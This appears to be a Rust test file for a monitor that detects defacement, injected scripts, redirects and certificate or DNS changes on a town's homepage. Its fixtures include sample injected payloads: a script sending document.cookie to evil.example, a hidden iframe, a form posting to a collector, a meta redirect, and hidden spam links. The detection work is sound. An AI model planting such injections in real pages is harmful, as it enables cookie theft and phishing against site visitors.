//! Pages that live, pages that are changed by others, and what must hold of every page.

mod pages;
mod watching;

use std::collections::BTreeSet;

use proptest::prelude::*;
use url::Url;

use super::*;
use pages::{Site, defaced, redesigned};

fn around(at: i64) -> Circumstances {
    Circumstances {
        at,
        status: 200,
        certificate: Some("c1".to_owned()),
        addresses: BTreeSet::from(["192.0.2.1".to_owned()]),
        name_servers: BTreeSet::from(["ns1.example".to_owned()]),
    }
}

fn snapshot(html: &str) -> Snapshot {
    Snapshot::of(html.as_bytes(), Some("text/html; charset=utf-8"), &Url::parse("https://www.town.kokonotsu.lg.jp/").unwrap(), around(0))
}

/// The town, learnt from two fetches a moment apart.
fn known() -> Baseline {
    learn(&snapshot(&Site::at(100).html()), &snapshot(&Site::at(101).html()))
}

fn judged(now: &Snapshot) -> (Change, Verdict) {
    let change = compare(&known(), now);
    let verdict = judge(&change, &Thresholds::default());
    (change, verdict)
}

/// Weight and codes of the reasons for a page that shows `html`.
fn weighed(html: &str) -> (Weight, Vec<String>) {
    let verdict = judged(&snapshot(html)).1;
    (verdict.weight, verdict.reasons.into_iter().map(|reason| reason.code).collect())
}

const ALERT: Weight = Weight::Alert(Level::Confirm);

#[test]
fn a_living_page_is_left_alone() {
    for request in [100, 101] {
        let change = compare(&known(), &snapshot(&Site::at(request).html()));
        assert!(change.is_nothing(), "{change:?}");
    }
    // Other tokens, other counters, another hour; the banners of today include one never seen.
    for request in [102, 7, 9_999, 123_456] {
        let (change, verdict) = judged(&snapshot(&Site::at(request).html()));
        assert!(matches!(verdict.weight, Weight::Nothing | Weight::Digest), "{request}: {change:?}");
        assert!(change.skeleton >= 1.0 && change.text > 0.9, "{request}: {change:?}");
    }
}

#[test]
fn a_defaced_page_is_told_with_everything_that_speaks_for_it() {
    let (change, verdict) = judged(&snapshot(&defaced()));
    assert!(change.skeleton < 0.2 && change.text < 0.05, "{change:?}");
    let codes: Vec<&str> = verdict.reasons.iter().map(|reason| reason.code.as_str()).collect();
    assert_eq!(codes, ["homepage-skeleton", "homepage-frame", "homepage-images", "homepage-title", "homepage-language", "homepage-text"]);
    assert_eq!(verdict.weight, ALERT);
}

#[test]
fn foreign_hands_leave_foreign_hosts() {
    let site = Site::new;
    for (what, site, expected) in [
        ("script", Site { foot: "<script src=//cdn.evil.example/x.js></script>".into(), ..site() }, "homepage-script"),
        ("in line", Site { foot: "<script>location='https://evil.example/?'+document.cookie</script>".into(), ..site() }, "homepage-code"),
        ("in vain", Site { foot: "<script src=\"data:text/javascript,alert(1)\"></script>".into(), ..site() }, "homepage-script"),
        ("frame", Site { foot: "<iframe src=https://evil.example/ width=0 height=0></iframe>".into(), ..site() }, "homepage-frame"),
        ("form", Site { search: "https://evil.example/collect".into(), ..site() }, "homepage-form"),
        ("refresh", Site { head: "<meta http-equiv=refresh content='0;url=https://evil.example/'>".into(), ..site() }, "homepage-refresh"),
        ("style", Site { head: "<link rel=stylesheet href=https://evil.example/a.css>".into(), ..site() }, "homepage-style"),
        ("base", Site { head: "<base href=https://evil.example/>".into(), ..site() }, "homepage-form"),
    ] {
        let (weight, codes) = weighed(&site.html());
        assert_eq!(weight, ALERT, "{what}: {codes:?}");
        assert!(codes.iter().any(|code| code == expected), "{what}: {codes:?}");
        assert!(!codes.iter().any(|code| code == "homepage-skeleton"), "{what}: {codes:?}");
    }
}

#[test]
fn hidden_links_in_number_are_told_and_one_new_link_is_news() {
    let spam: String = (0..30).map(|n| format!("<a href=https://casino{}.example/{n}>slot</a>", n % 3)).collect();
    let (weight, codes) = weighed(&Site { foot: format!("<div style=display:none>{spam}</div>"), ..Site::new() }.html());
    assert_eq!((weight, codes[0].as_str()), (ALERT, "homepage-links"));
    let mut site = Site::new();
    site.news.insert(0, ("県の防災訓練に参加します".into(), "https://bosai.other.example/kunren".into()));
    let (weight, codes) = weighed(&site.html());
    assert_eq!(weight, Weight::Digest, "{codes:?}");
    assert!(codes.contains(&"homepage-links".to_owned()));
}

#[test]
fn text_alone_is_a_digest_however_much_of_it() {
    // A day of news: the whole list is new, and twice as long; a notice of an emergency stands above.
    let mut site = Site {
        notice: "<section><h2>緊急情報</h2><ul><li><a href=/e>大雨警報が発表されました</a></li></ul></section>".into(),
        ..Site::new()
    };
    site.news =
        (0..20).map(|n| (format!("避難所を開設しました（第{n}小学校体育館）。食料と毛布の用意があります"), format!("/emergency/{n}"))).collect();
    let (change, verdict) = judged(&snapshot(&site.html()));
    assert_eq!(verdict.weight, Weight::Digest, "{change:?}");
    assert!(change.skeleton > 0.9 && change.text < 0.95, "{change:?}");

    let (weight, codes) = weighed(&Site { title: "HACKED".into(), ..Site::new() }.html());
    assert_eq!((weight, codes), (Weight::Digest, vec!["homepage-title".to_owned()]));
    let (weight, _) = weighed(&Site { title: "（2）ここのつ町公式ホームページ".into(), ..Site::new() }.html());
    assert_eq!(weight, Weight::Digest);
}

#[test]
fn a_redesign_is_told_because_only_people_know_whose_it_is() {
    let (weight, codes) = weighed(&redesigned());
    assert_eq!((weight, codes[0].as_str()), (ALERT, "homepage-skeleton"));
    assert!(!codes.iter().any(|code| code == "homepage-title" || code == "homepage-language"), "{codes:?}");
}

#[test]
fn certificate_and_dns_raise_an_alert_and_are_none_alone() {
    type Turn = fn(&mut Snapshot);
    let moved = |html: &str, change: Turn| {
        let mut now = snapshot(html);
        change(&mut now);
        judged(&now).1
    };
    let changes: [(Turn, &str); 3] = [
        (|now| now.certificate = Some("c2".into()), "homepage-certificate"),
        (|now| now.name_servers = BTreeSet::from(["ns.evil.example".into()]), "homepage-name-servers"),
        (|now| now.addresses = BTreeSet::from(["198.51.100.9".into()]), "homepage-addresses"),
    ];
    for (change, code) in changes {
        let alone = moved(&Site::at(100).html(), change);
        assert_eq!((alone.weight, alone.reasons[0].code.as_str()), (Weight::Digest, code));
        let both = moved(&defaced(), change);
        assert_eq!(both.weight, Weight::Alert(Level::Urgent));
        assert!(both.reasons.iter().any(|reason| reason.code == code));
    }
    // Not known is not changed.
    let unknown = moved(&Site::at(100).html(), |now| (now.name_servers, now.addresses, now.certificate) = Default::default());
    assert_eq!(unknown.weight, Weight::Nothing);
}

#[test]
fn a_redirect_to_others_is_told_and_one_at_home_is_not() {
    let address = Url::parse("https://www.town.kokonotsu.lg.jp/").unwrap();
    let (change, verdict) = judged(&Snapshot::away("evil.example", &address, around(0)));
    assert_eq!(verdict.weight, ALERT);
    assert_eq!(verdict.reasons.iter().map(|reason| reason.code.as_str()).collect::<Vec<_>>(), ["homepage-redirect"]);
    assert_eq!(change.away.as_deref(), Some("evil.example"));
    // A name that has always led elsewhere goes on doing so; should it show a page of its own, that is new.
    let always = Snapshot::away("portal.example", &address, around(0));
    let known = learn(&always, &always);
    assert!(compare(&known, &always).is_nothing());
    assert_eq!(judge(&compare(&known, &snapshot(&Site::new().html())), &Thresholds::default()).weight, ALERT);
    // New hosts under the town's own name are its own affair.
    let own = Site { foot: "<script src=https://static.town.kokonotsu.lg.jp/x.js></script>".into(), ..Site::new() };
    assert_eq!(weighed(&own.html()).0, Weight::Nothing);
}

#[test]
fn rotating_banners_are_learnt_to_the_last() {
    let mut known = known();
    for request in 102..107 {
        let now = snapshot(&Site::at(request).html());
        assert!(!matches!(judge(&compare(&known, &now), &Thresholds::default()).weight, Weight::Alert(_)));
        known.follow(&now);
    }
    for request in 200..210 {
        let change = compare(&known, &snapshot(&Site::at(request).html()));
        assert!(change.hosts.is_empty() && change.text > 0.99, "{change:?}");
    }
}

#[test]
fn slow_drift_is_followed_and_a_foreign_script_is_still_seen_after_a_year() {
    let mut known = known();
    for week in 0..52_u64 {
        let mut site = Site::at(1_000 + week);
        site.news = (0..8)
            .map(|n| (format!("第{week}週のお知らせ、その{n}：{}のご案内", ["講座", "相談", "工事", "祭り"][(week as usize + n) % 4]), "/n".into()))
            .collect();
        let now = snapshot(&site.html());
        let verdict = judge(&compare(&known, &now), &Thresholds::default());
        assert!(!matches!(verdict.weight, Weight::Alert(_)), "{week}: {verdict:?}");
        known.follow(&now);
    }
    let size = serde_json::to_string(&known).unwrap().len();
    assert!(size < 90_000, "{size}");
    let now = snapshot(&Site { foot: "<script src=https://evil.example/x.js></script>".into(), ..Site::at(2_000) }.html());
    assert!(matches!(judge(&compare(&known, &now), &Thresholds::default()).weight, Weight::Alert(_)));
}

/// Pages of random pieces.
fn page() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        "[a-z]{1,6}".prop_map(|text| format!("<p>{text}</p>")),
        (0_u32..6).prop_map(|n| format!("<a href=https://h{n}.example/>x</a>")),
        (0_u32..4).prop_map(|n| format!("<script src=https://s{n}.example/a.js></script>")),
        (0_u32..4).prop_map(|n| format!("<ul><li>{n}</li></ul>")),
        Just("<table><tr><td>表</td></tr></table>".to_owned()),
        Just("<form action=/f><input name=a></form>".to_owned()),
    ];
    (prop::collection::vec(piece, 0..40), "[a-z]{0,5}").prop_map(|(pieces, title)| format!("<title>{title}</title>{}", pieces.concat()))
}

proptest! {
    #[test]
    fn what_was_learnt_is_no_change(a in page(), b in page()) {
        let (a, b) = (snapshot(&a), snapshot(&b));
        prop_assert!(compare(&learn(&a, &a), &a).is_nothing());
        prop_assert_eq!(learn(&a, &a), Baseline::of(&a));
        let known = learn(&a, &b);
        for one in [&a, &b] {
            let change = compare(&known, one);
            prop_assert!(change.is_nothing(), "{:?}", change);
            prop_assert_eq!(judge(&change, &Thresholds::default()).weight, Weight::Nothing);
        }
    }

    #[test]
    fn following_twice_changes_nothing(a in page(), b in page(), c in page()) {
        let mut once = learn(&snapshot(&a), &snapshot(&b));
        let c = snapshot(&c);
        once.follow(&c);
        prop_assert!(compare(&once, &c).is_nothing());
        let mut twice = once.clone();
        twice.follow(&c);
        prop_assert_eq!(once, twice);
    }

    #[test]
    fn an_alert_needs_shape_hosts_or_a_redirect(a in page(), b in page(), other in any::<bool>()) {
        let (a, mut b) = (snapshot(&a), snapshot(&b));
        if other {
            b.certificate = Some("c2".into());
        }
        let change = compare(&Baseline::of(&a), &b);
        let thresholds = Thresholds::default();
        let links = |change: &Change| change.hosts.iter().filter(|host| host.reach == formats::html::Reach::Link).count();
        let may = change.skeleton < thresholds.skeleton || change.away.is_some() || links(&change) > 0
            || change.hosts.iter().any(|host| thresholds.alerting.contains(&host.reach));
        match judge(&change, &thresholds).weight {
            Weight::Alert(level) => {
                prop_assert!(may);
                prop_assert_eq!(level == Level::Urgent, other);
            }
            weight => prop_assert_eq!(weight == Weight::Nothing, change.is_nothing() || (change.text >= thresholds.text && change.title.is_none() && change.language.is_none() && change.hosts.is_empty() && !other)),
        }
    }

    #[test]
    fn attributes_in_any_order_make_the_same_page(n in 0_u32..1_000) {
        let one = format!("<a class=c{n} href=https://x.example/ id=i>t</a><iframe src=https://y.example width=1></iframe>");
        let two = format!("<a id=i href=https://x.example/ class=c{n}>t</a><iframe width=1 src=https://y.example></iframe>");
        prop_assert_eq!(snapshot(&one), snapshot(&two));
    }
}
